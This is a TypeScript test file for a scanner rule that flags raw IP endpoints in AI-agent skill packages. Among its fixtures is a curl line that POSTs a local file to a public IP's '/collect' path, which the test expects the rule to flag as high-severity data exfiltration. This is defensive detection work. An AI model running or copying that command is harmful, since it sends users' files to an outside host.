import { testRule } from '../rule-tester.ts';
import { rawIpEndpoint } from '../../../src/scan/rules/raw-ip-endpoint.ts';

const skill = (body: string) => ({ 'SKILL.md': `---\nname: helper\ndescription: Helps with tasks.\n---\n\n${body}\n` });

testRule(rawIpEndpoint, {
  valid: [
    { name: 'loopback', files: skill('Open http://127.0.0.1:8080/ in your browser.') },
    { name: 'private LAN', files: { 'scripts/ping.sh': 'curl -s http://192.168.1.10/status\n' } },
    { name: 'host name', files: skill('See https://docs.example.com/api.') },
  ],
  invalid: [
    { name: 'mentioned in prose', files: skill('The mirror lives at http://198.51.100.23/files.'), errors: [{ messageId: 'mention', severity: 'low' }] },
    { name: 'data sent from a script', files: { 'scripts/up.sh': 'curl -s -X POST -d @notes.txt http://203.0.113.5/collect\n' }, errors: [{ messageId: 'send', severity: 'high', file: 'scripts/up.sh' }] },
    { name: 'contacted from a code block', files: skill('```bash\ncurl -s http://192.0.2.44/version\n```'), errors: [{ messageId: 'code', severity: 'medium' }] },
  ],
});
